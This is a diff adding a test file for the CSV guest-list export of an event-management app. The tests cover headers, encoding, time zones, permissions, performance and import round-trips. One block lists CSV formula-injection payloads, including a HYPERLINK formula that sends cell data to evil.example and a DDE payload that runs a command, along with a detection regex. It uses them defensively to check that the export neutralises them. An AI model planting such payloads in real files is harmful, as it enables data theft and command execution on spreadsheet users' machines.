@@ -1,0 +1,232 @@
+import { env, exports } from "cloudflare:workers";
+import * as fc from "fast-check";
+import Papa from "papaparse";
+import { describe, expect, it } from "vitest";
+import { call, type Host, signedInHost } from "../../support/account.ts";
+import { addMember, makeEventFixture } from "../../support/event-fixture.ts";
+import { addGuest, issueLink, makeEvent, type WireGuest } from "../../support/guest.ts";
+import { allGuests, importCsv, preview } from "../../support/guest-list.ts";
+import { answerRequest } from "../../support/guest-requests.ts";
+import { costOf } from "../../support/recording-env.ts";
+
+const MANY = 5_000;
+/** What must not be at the beginning of a cell, wherever a spreadsheet sees one. */
+const RUNS = /^\s*[=+\-@＝＋－＠]/;
+
+async function hostWithEvent(overrides: Record<string, unknown> = {}) {
+  const host = await signedInHost({ tier: "pro" });
+  const event = await makeEvent(host, overrides);
+  return { host, eventId: event.id };
+}
+
+async function exported(host: Host, eventId: string): Promise<string> {
+  const response = await host.api("GET", `/events/${eventId}/guests/export.csv`);
+  expect(response.status, "GET …/guests/export.csv").toBe(200);
+  // As bytes: `text()` would take the byte order mark away.
+  return new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer());
+}
+
+/** The rows of an export as another reader reads them, each with its cells by the names of their columns. */
+function rowsOf(csv: string): Record<string, string>[] {
+  return Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true }).data;
+}
+
+/** What an import takes from a guest. */
+function imported({ name, email, phone, party_size, notes }: WireGuest) {
+  return { name, email, phone, party_size, notes };
+}
+
+describe("the export of a guest list", () => {
+  it("is a CSV file to save, which Excel reads as UTF-8", async () => {
+    const { host, eventId } = await hostWithEvent({ name: "Zoë & Łukasz: the party" });
+    await addGuest(host, eventId, { name: "Zoë" });
+    const response = await host.api("GET", `/events/${eventId}/guests/export.csv`);
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(response.headers.get("content-disposition")).toBe('attachment; filename="guests-zoe-ukasz-the-party.csv"');
+    expect(response.headers.get("cache-control")).toBe("private, no-store");
+    const bytes = new Uint8Array(await response.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = new TextDecoder().decode(bytes);
+    expect(text.split("\r\n")).toHaveLength(3);
+    expect(text).not.toMatch(/[^\r]\n/);
+  });
+
+  it("has every guest once, in the order in which they were added, and nobody of another event", async () => {
+    const { host, eventId } = await hostWithEvent();
+    const other = await makeEvent(host);
+    await addGuest(host, other.id, { name: "Elsewhere" });
+    await importCsv(host, eventId, "name\nAda\nBob\nCy\n");
+    expect(rowsOf(await exported(host, eventId)).map(({ name }) => name)).toEqual(["Ada", "Bob", "Cy"]);
+  });
+
+  it("tells the answer and the arrival, in UTC and as the clock at the event shows them", async () => {
+    const { host, eventId } = await hostWithEvent({ timezone: "America/New_York" });
+    const guest = await addGuest(host, eventId, {
+      name: "Ada",
+      email: "ada@example.com",
+      phone: "+442079460000",
+      party_size: 3,
+      notes: "Vegan,\nno nuts",
+    });
+    const silent = await addGuest(host, eventId, { name: "Silent" });
+    const { token } = await issueLink(host, eventId, guest.id, { notify: false });
+    expect((await exports.default.fetch(answerRequest(token, { plus_ones: 2 }))).status).toBe(201);
+    const arrival = { guest_id: guest.id, arrival_count: 2, notes: "Came late" };
+    expect((await host.api("POST", `/events/${eventId}/check-in`, arrival)).status).toBe(201);
+    // A winter's evening in New York, which in London is the next day; and a summer's.
+    const answered = Date.parse("2027-01-01T03:04:05Z");
+    const arrived = Date.parse("2027-07-02T00:30:00Z");
+    await env.DB.batch([
+      env.DB.prepare("update rsvps set submitted_at = ? where event_id = ?").bind(answered, eventId),
+      env.DB.prepare("update check_ins set checked_in_at = ? where event_id = ?").bind(arrived, eventId),
+    ]);
+    const [row, other] = rowsOf(await exported(host, eventId));
+    expect(row).toMatchObject({
+      id: guest.id,
+      name: "Ada",
+      email: "ada@example.com",
+      phone: "'+442079460000",
+      party_size: "3",
+      notes: "Vegan,\nno nuts",
+      invited_at_utc: expect.stringMatching(/Z$/),
+      rsvp_response: "attending",
+      rsvp_plus_ones: "2",
+      rsvp_edits: "0",
+      rsvp_submitted_at_utc: "2027-01-01T03:04:05.000Z",
+      rsvp_submitted_at_local: "2026-12-31 22:04",
+      checked_in_at_utc: "2027-07-02T00:30:00.000Z",
+      checked_in_at_local: "2027-07-01 20:30",
+      arrival_count: "2",
+      walk_in: "no",
+      check_in_notes: "Came late",
+      time_zone: "America/New_York",
+    });
+    expect(other).toMatchObject({ id: silent.id, email: "", rsvp_response: "", checked_in_at_utc: "", walk_in: "" });
+  });
+
+  it("is a viewer's to have; a stranger finds nothing, nobody is let in", async () => {
+    const { host, eventId } = await hostWithEvent();
+    const [viewer, stranger] = [await signedInHost(), await signedInHost()];
+    await addMember(eventId, viewer.id, "viewer");
+    const path = `/events/${eventId}/guests/export.csv`;
+    expect((await viewer.api("GET", path)).status).toBe(200);
+    expect((await stranger.api("GET", path)).status).toBe(404);
+    expect((await call("GET", path)).status).toBe(401);
+    expect((await host.api("GET", `/events/${crypto.randomUUID()}/guests/export.csv`)).status).toBe(404);
+  });
+
+  it("of 5,000 guests is one trip, and reads each of them once", async () => {
+    const host = await signedInHost({ tier: "business" });
+    const { eventId } = await makeEventFixture(host.id, MANY);
+    const headers = { Authorization: `Bearer ${host.token}` };
+    const found = await costOf(new Request(`https://usher.test/events/${eventId}/guests/export.csv`, { headers }));
+    expect([found.trips, found.d1Calls, found.rowsWritten]).toEqual([1, 1, 0]);
+    expect(found.rowsRead).toBeLessThanOrEqual(MANY + 10);
+    expect(rowsOf(await found.response.text())).toHaveLength(MANY);
+  });
+});
+
+describe("what a spreadsheet would run", () => {
+  const FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "＝1+1",
+    "a;=1+1;b",
+  ];
+
+  it("is shown and not run, in whatever field a guest or a host has put it", async () => {
+    const { host, eventId } = await hostWithEvent();
+    for (const formula of FORMULAS) {
+      await addGuest(host, eventId, { name: formula, notes: `first line\n${formula}`, phone: "+442079460000" });
+    }
+    await addGuest(host, eventId, { name: "x", email: "+evil@example.com" });
+    const csv = await exported(host, eventId);
+    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, "")).data.flat();
+    for (const cell of cells) expect(cell).not.toMatch(RUNS);
+    // Excel where the comma is for decimals: it cuts at semicolons and line breaks, and takes no notice of our quotes.
+    for (const cell of csv.split(/[;\r\n]/)) expect(cell).not.toMatch(RUNS);
+  });
+});
+
+describe("an export that is imported", () => {
+  /** Names that are lines of text, made of what is hard to carry. */
+  const nasty = fc
+    .string({
+      unit: fc.oneof(fc.constantFrom(..."=+-@＝＋'\",;|\t éß山🎉\u202e"), fc.string({ maxLength: 1 })),
+      maxLength: 30,
+    })
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a name must not have
+    .map((text) => text.replace(/[\u0000-\u001f\u007f-\u009f]/g, " ").trim())
+    .filter((text) => text !== "");
+  const notes = fc
+    .array(nasty, { minLength: 1, maxLength: 3 })
+    .chain((lines) => fc.constantFrom("\n", "\r\n", "\t", "; ").map((separator) => lines.join(separator).trim()));
+  const guest = fc.record({
+    name: nasty,
+    email: fc.option(
+      fc.tuple(fc.constantFrom("+", "-", "_", "'+", "a"), fc.uuid()).map(([sign, id]) => `${sign}${id}@example.com`),
+      { nil: null },
+    ),
+    phone: fc.option(
+      fc.integer({ min: 1_000_000, max: 999_999_999 }).map((number) => `+49${number}`),
+      { nil: null },
+    ),
+    party_size: fc.option(fc.integer({ min: 1, max: 20 }), { nil: null }),
+    notes: fc.option(notes, { nil: null }),
+  });
+
+  it("changes nothing on its own event, with guests who have no address too; on another it makes the same guests", async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.array(guest, { minLength: 1, maxLength: 12 }), async (guests) => {
+        const { host, eventId } = await hostWithEvent();
+        for (const one of guests) await addGuest(host, eventId, one);
+        const before = await allGuests(host, eventId);
+        const csv = await exported(host, eventId);
+
+        const report = await importCsv(host, eventId, csv);
+        expect(report).toMatchObject({ imported: 0, skipped: guests.length, rejected: 0 });
+        expect(await allGuests(host, eventId)).toEqual(before);
+
+        const copy = await makeEvent(host);
+        expect(await importCsv(host, copy.id, csv)).toMatchObject({ imported: guests.length, rejected: 0 });
+        expect((await allGuests(host, copy.id)).map(imported)).toEqual(before.map(imported));
+      }),
+      { numRuns: 10 },
+    );
+  });
+
+  it("still changes nothing after a spreadsheet has saved it in its own way", async () => {
+    const { host, eventId } = await hostWithEvent();
+    await importCsv(host, eventId, "name,email,phone\nZoë,zoe@example.com,+442079460000\n=1+1,,\n'@x,,\n");
+    const rows = Papa.parse<string[]>((await exported(host, eventId)).replace(/^\uFEFF/, "")).data;
+    for (const delimiter of [";", "\t", "|"]) {
+      const saved = Papa.unparse(rows, { delimiter, newline: "\n" });
+      expect(await importCsv(host, eventId, saved)).toMatchObject({ imported: 0, skipped: 3, rejected: 0 });
+    }
+  });
+});
+
+describe("the template", () => {
+  it("has the columns that an import reads, and an example that would be imported", async () => {
+    const { host, eventId } = await hostWithEvent();
+    const response = await host.api("GET", `/events/${eventId}/guests/template`);
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
+    expect(response.headers.get("content-disposition")).toBe('attachment; filename="guests-template.csv"');
+    const csv = await response.text();
+    expect(csv.replace(/^\uFEFF/, "").split("\r\n")[0]).toBe("name,email,phone,party_size,notes");
+    const seen = await preview(host, eventId, csv);
+    expect(seen).toMatchObject({ total: 1, valid: 1 });
+    expect(seen.columns.every(({ field }) => field !== null)).toBe(true);
+  });
+
+  it("is an editor's to have", async () => {
+    const { eventId } = await hostWithEvent();
+    const viewer = await signedInHost();
+    await addMember(eventId, viewer.id, "viewer");
+    expect((await viewer.api("GET", `/events/${eventId}/guests/template`)).status).toBe(403);
+  });
+});
